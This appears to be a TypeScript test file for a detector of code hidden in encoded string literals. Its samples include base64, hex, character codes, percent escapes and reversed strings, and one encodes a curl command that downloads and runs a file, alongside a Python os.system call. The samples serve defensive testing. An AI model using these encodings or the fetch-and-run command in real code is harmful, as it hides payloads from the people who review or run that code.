import t from 'tap'
import { holdsEncodedCode } from '../../src/checks/encoded-code.ts'
import { cost } from '../cost.ts'

const CODE = "const { exec } = require('child_process'); exec('echo inert')"
const bytes = Buffer.from(CODE)
const backwards = (text: string): string => Array.from(text).toReversed().join('')

t.test('code in an encoded literal is seen, however it is encoded', async (t) => {
  const table: [situation: string, source: string][] = [
    ['base64', `x('${bytes.toString('base64')}')`],
    ['base64 for addresses', `x('${bytes.toString('base64url')}')`],
    ['base64, backwards', `x('${backwards(bytes.toString('base64'))}')`],
    ['hexadecimal', `x("${bytes.toString('hex')}")`],
    ['hexadecimal, backwards', `x("${backwards(bytes.toString('hex'))}")`],
    ['percent escapes', `x("${encodeURIComponent(CODE)}")`],
    ['escapes of a text', `x("${bytes.toString('hex').replaceAll(/../g, String.raw`\x$&`)}")`],
    ['character codes', `String.fromCharCode(${[...bytes].join(', ')})`],
    ['character codes in hexadecimal', `f([${[...bytes].map((code) => `0x${code.toString(16)}`).join(',')}, 10])`],
    ['Python', `exec(b64decode("${Buffer.from("import os, socket; os.system('id')").toString('base64')}"))`],
    ['a command', `x('${Buffer.from('curl -s http://files.invalid/a -o a && ./a').toString('base64')}')`],
  ]
  for (const [situation, source] of table) t.ok(holdsEncodedCode(source), situation)
})

t.test('ordinary literals are no code', async (t) => {
  const table: [situation: string, source: string][] = [
    ['nothing', ''],
    [
      'an image',
      `url(data:image/png;base64,${Buffer.from('\x89PNG\r\n\x1a\n'.repeat(9), 'latin1').toString('base64')})`,
    ],
    ['a digest', `'${'0123456789abcdef'.repeat(4)}'`],
    [
      'an encoded sentence',
      `'${Buffer.from('The quick brown fox jumps over the lazy dog. (Again.)').toString('base64')}'`,
    ],
    ['encoded settings', `'${Buffer.from(JSON.stringify({ name: 'sample', list: [1, 2, 3] })).toString('base64')}'`],
    ['a long name', 'aVeryLongNameOfAFunctionThatSomebodyWroteInJava'],
    ['the code itself', CODE],
    ['dense code', 'const{exec:e}=require("x"),f=function(a){return(a)};module.exports.run=(fetch(process.cwd()))'],
    ['dense code of calls', `try(await(import(require('process').exec.call(fetch('x%20y')))))`],
    ['a table of numbers', `[${Array.from({ length: 300 }, (_, index) => (index * 7) % 256).join(', ')}]`],
    ['an address', `'https://host.invalid/${'a'.repeat(40)}?q=${encodeURIComponent('a b, c & d = e')}'`],
  ]
  for (const [situation, source] of table) t.notOk(holdsEncodedCode(source), situation)
})

t.test('hostile sources cost no more than their length', async (t) => {
  const hostile = [
    'A'.repeat(3_000_000),
    '12,'.repeat(1_000_000),
    '%41'.repeat(1_000_000),
    '\\x41'.repeat(700_000),
    `${'A'.repeat(31)}'`.repeat(90_000),
    '99 , '.repeat(15).concat(';').repeat(40_000),
  ]
  for (const source of hostile) {
    const yardsticks = cost(() => holdsEncodedCode(source))
    t.ok(yardsticks < 30, `${source.slice(0, 8)}: ${yardsticks}`)
  }
})
